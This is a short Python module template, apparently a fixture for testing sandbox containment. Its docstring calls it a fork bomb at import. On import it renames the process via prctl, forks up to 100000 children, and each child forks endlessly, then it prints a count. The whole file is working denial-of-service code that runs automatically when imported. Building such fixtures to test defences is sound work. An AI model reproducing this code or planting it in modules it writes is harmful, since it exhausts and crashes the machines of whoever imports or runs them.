"""A fork bomb at import, named {MARK}; the functions stay correct."""
import ctypes
import os
import time

ctypes.CDLL(None).prctl(15, b"{MARK}", 0, 0, 0)  # PR_SET_NAME, inherited by forks
_forked = 0
for _ in range(100000):
    try:
        pid = os.fork()
    except OSError:
        break
    if pid == 0:
        while True:
            try:
                os.fork()
            except OSError:
                time.sleep(0.05)
    _forked += 1
ctypes.CDLL(None).prctl(15, b"python", 0, 0, 0)
print("FORKED", _forked)
